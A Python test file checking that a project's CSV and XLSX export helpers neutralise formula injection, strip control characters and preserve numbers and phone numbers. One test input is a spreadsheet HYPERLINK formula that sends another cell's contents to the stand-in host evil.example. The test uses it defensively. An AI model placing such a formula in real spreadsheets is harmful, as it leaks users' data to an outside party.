"""Spreadsheet cells from public input are never formulas and never break the file."""
import csv
import io
import zipfile

from hearings.core.exports import csv_text, safe_cell, xlsx_bytes


def test_formulas_are_neutralised_numbers_kept():
    assert safe_cell('=HYPERLINK("http://evil.example/?"&G2,"Open")').startswith("'=")
    assert [safe_cell(v) for v in ("+1+2", "-2+3", "@SUM(A1)", "\t=1")] == ["'+1+2", "'-2+3", "'@SUM(A1)", "'\t=1"]
    assert [safe_cell(v) for v in ("-150", "12,5", "Бакыт", 42, None)] == ["-150", "12,5", "Бакыт", 42, None]
    assert safe_cell("Lenin st\x01 5\x00") == "Lenin st 5"


def test_csv_and_xlsx_carry_hostile_text_as_text():
    rows = [["=1+2", "Lenin st\x01 5", 3]]
    parsed = list(csv.reader(io.StringIO(csv_text(["name", "village", "n"], rows).lstrip("\ufeff"))))
    assert parsed[1] == ["'=1+2", "Lenin st 5", "3"]
    sheet = zipfile.ZipFile(io.BytesIO(xlsx_bytes(["name", "village", "n"], rows + [["+996555123456", "", 1]]))
                            ).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "Lenin st 5" in sheet
    assert "=1+2" in sheet and "'=1+2" not in sheet  # text, shown as typed
    assert "+996555123456" in sheet and "'+996" not in sheet  # a phone number keeps its form
